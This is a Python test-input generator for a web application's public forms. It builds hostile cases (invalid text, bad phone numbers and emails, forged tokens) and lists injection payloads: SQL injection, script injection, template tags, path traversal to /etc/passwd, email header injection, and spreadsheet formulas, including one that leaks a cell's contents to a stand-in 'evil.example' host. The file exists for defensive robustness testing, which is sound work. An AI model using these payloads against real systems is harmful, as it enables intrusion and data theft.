"""The seeded generator of hostile input for ``test_hostile_input``: value catalogues, one
``FormSpec`` per public form that turns a valid submission into hostile cases, and a browser's
urlencoded body (lone surrogates as their invalid UTF-8 bytes)."""

import time
import uuid
from dataclasses import dataclass, field
from urllib.parse import quote

from core.abuse import TIMESTAMP_FIELD, sign_token
from core.validators import TEXT_MAX_LENGTH

SEED = 20261202
CONTROL = [chr(c) for c in [*range(0x00, 0x09), 0x0B, 0x0C, *range(0x0E, 0x20), 0x7F, 0x85, 0x9F]]
SURROGATES = ["\ud800", "\udfff", "\udbff", "\udc00"]
# Text any form may take (or refuse), but never with a 500.
ODD_TEXT = [
    "' OR 1=1 --",
    "'; DROP TABLE initiatives_response; --",
    '" UNION SELECT password FROM auth_user --',
    "<script>alert(1)</script>",
    '<img src=x onerror="alert(1)">',
    "javascript:alert(document.cookie)",
    "{{ request.user }} {% debug %}",
    '=HYPERLINK("http://evil.example/?leak="&A1;"klik")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+31=1+1",
    "-2+3",
    "\u202eevil\u202c gpj.exe",
    "abc\u200b\u200d\u2060def",
    "🙂👍🏽🏳️‍🌈 Emoji",
    "Z̷̢͎a̴͓l̵g̶o̷ text",
    "مرحبا بالعالم",
    "9" * 40,
    "-9223372036854775809",
    "1e309",
    "NaN",
    "../../../../etc/passwd",
    "a\r\nBcc: victim@example.nl",
    "%00%0d%0a",
    "null",
    "[]",
    '{"$gt": ""}',
]
WHITESPACE = [" ", "   \t  ", "\n\n", "\u00a0\u2003"]
BAD_PHONES = [
    "12ab",
    "1234567",
    "0" * 16,
    "06-12",
    "+999 123 456",
    "=1+1",
    "<script>",
    "((((----))))",
    "06 1234 abcd",
    "+31 6 1234 5678 9999",
    "112",
    "-0612345678",
]
GOOD_PHONES = ["06 12345678", "026-123 45 67", "+31 (0)26 123 4567", "+44 20 7946 0958"]
BAD_EMAILS = ["no-at-sign", "a@", "@example.nl", "<script>@x.nl", "x" * 300 + "@example.nl"]
NOT_CONSENT = ["0", "off", "false", "no", "", " ", "nee", "OFF", "False"]
BAD_CHOICES = ["zzz", "9223372036854775808", "-1", "0", "<b>", "' OR '1'='1", "1.5"]
NUMBERS = [
    "9223372036854775808",
    "²",
    "١٢",
    "99999999999999999999999999",
    "-1",
    "0",
    "-0",
    "1e5",
    "0x10",
]


def invalid_text(rng, base="Gewone tekst"):
    """Ordinary text with one character no person types, inside it (at either end, a
    whitespace control character is trimmed away like a space)."""
    bad = rng.choice(CONTROL + SURROGATES)
    at = rng.randrange(1, len(base))
    return base[:at] + bad + base[at:]


@dataclass
class Case:
    label: str
    data: dict
    must_refuse: bool
    must_accept: bool = False


@dataclass
class FormSpec:
    """A public form: where it is, a valid submission, and what kind each field is."""

    name: str
    url: str
    target: str
    valid: dict
    text: dict = field(default_factory=dict)  # name -> max length
    required: list = field(default_factory=list)
    phone: list = field(default_factory=list)
    email: list = field(default_factory=list)
    consent: list = field(default_factory=list)
    choice: list = field(default_factory=list)

    def data(self, **changes):
        token = sign_token(self.target, time.time() - 10, uuid.uuid4())
        data = {**self.valid, TIMESTAMP_FIELD: token}
        if "submission_key" in data:
            data["submission_key"] = str(uuid.uuid4())
        data.update(changes)
        return {k: v for k, v in data.items() if v is not None}

    def cases(self, rng):
        # Accepted, or refused without a 500: odd but possible text in every text field.
        for name, limit in self.text.items():
            for value in rng.sample(ODD_TEXT, 5):
                yield Case(f"{name}: odd text", self.data(**{name: value[:limit]}), False)
            yield Case(f"{name}: at the limit", self.data(**{name: "é" * limit}), False)
            yield Case(f"{name}: over the limit", self.data(**{name: "a" * (limit + 1)}), True)
            if limit == TEXT_MAX_LENGTH:
                yield Case(f"{name}: 1 MB", self.data(**{name: "a" * 1_000_000}), True)
            for _n in range(3):
                yield Case(f"{name}: invalid text", self.data(**{name: invalid_text(rng)}), True)
            if name in self.required:
                value = rng.choice(WHITESPACE)
                yield Case(f"{name}: whitespace only", self.data(**{name: value}), True)
        for name in self.required:
            yield Case(f"{name}: missing", self.data(**{name: None}), True)
        for name in self.phone:
            # Alone, so the phone number is how to reach the person.
            others = {e: "" for e in self.email}
            for value in rng.sample(BAD_PHONES, 5):
                yield Case(f"{name}: bad phone", self.data(**others, **{name: value}), True)
            for value in GOOD_PHONES:
                data = self.data(**others, **{name: value})
                yield Case(f"{name}: good phone {value}", data, False, must_accept=True)
        for name in self.email:
            for value in rng.sample(BAD_EMAILS, 3):
                yield Case(f"{name}: bad email", self.data(**{name: value}), True)
        for name in self.consent:
            for value in NOT_CONSENT:
                yield Case(f"{name}: no consent {value!r}", self.data(**{name: value}), True)
            yield Case(f"{name}: consent missing", self.data(**{name: None}), True)
        for name in self.choice:
            for value in rng.sample(BAD_CHOICES, 3):
                yield Case(f"{name}: bad choice", self.data(**{name: value}), True)
        yield Case("token forged", self.data(**{TIMESTAMP_FIELD: "1:2:3"}), True)
        yield Case("token missing", self.data(**{TIMESTAMP_FIELD: None}), True)
        yield Case("valid", self.data(), False, must_accept=True)


def urlencoded(data):
    """A form body as a browser sends it; a lone surrogate goes as its (invalid) UTF-8 bytes."""
    pairs = []
    for key, value in data.items():
        for item in value if isinstance(value, list) else [value]:
            raw = str(item).encode("utf-8", "surrogatepass")
            pairs.append(f"{quote(key)}={quote(raw)}")
    return "&".join(pairs).encode("ascii")
